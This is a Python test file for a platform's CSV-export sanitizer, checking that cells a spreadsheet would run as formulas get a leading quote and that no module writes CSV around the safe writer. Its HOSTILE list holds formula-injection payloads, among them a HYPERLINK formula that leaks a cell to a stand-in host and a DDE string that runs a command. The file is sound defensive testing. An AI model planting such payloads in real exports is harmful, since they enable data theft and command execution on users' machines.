"""CSV exports neutralize cells a spreadsheet would run as formulas (issue 11, item 7)."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from core import csvsafe

HOSTILE = [
    '=HYPERLINK("https://evil.test/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",            # some importers strip leading spaces
    "\u3000=1+1",        # ideographic space
    "＝1+1",             # full-width equals from a Japanese IME
    "＠SUM(A1)",
    "-5",                # a number typed as text is still text
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_prefixed_with_a_quote(value):
    assert csvsafe.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Hanako Yamada", "山田 花子", "investor@example.test", "0xAbC", "", "a=b", "1-2"])
def test_plain_text_is_unchanged(value):
    assert csvsafe.safe_cell(value) == value


def test_numbers_the_platform_computes_stay_numbers():
    assert csvsafe.safe_cell(-5) == -5
    assert csvsafe.safe_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert csvsafe.safe_cell(None) == ""


def test_the_writer_neutralizes_every_cell_and_keeps_separators_inside_their_cell():
    out = io.StringIO()
    csvsafe.writer(out).writerow(['=1+1,"x"', "@a\r\n=b", 8, "ok"])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'=1+1,\"x\"", "'@a\r\n=b", "8", "ok"]


def test_no_csv_export_bypasses_the_safe_writer():
    """Every CSV the platform writes goes through core.csvsafe.writer."""
    root = Path(__file__).resolve().parents[2]
    apps = ["accounts", "investors", "compliance", "issuance", "ledger", "chain", "core"]
    offenders = []
    for app in apps:
        for path in (root / app).rglob("*.py"):
            if "tests" in path.parts or path.name == "csvsafe.py":
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
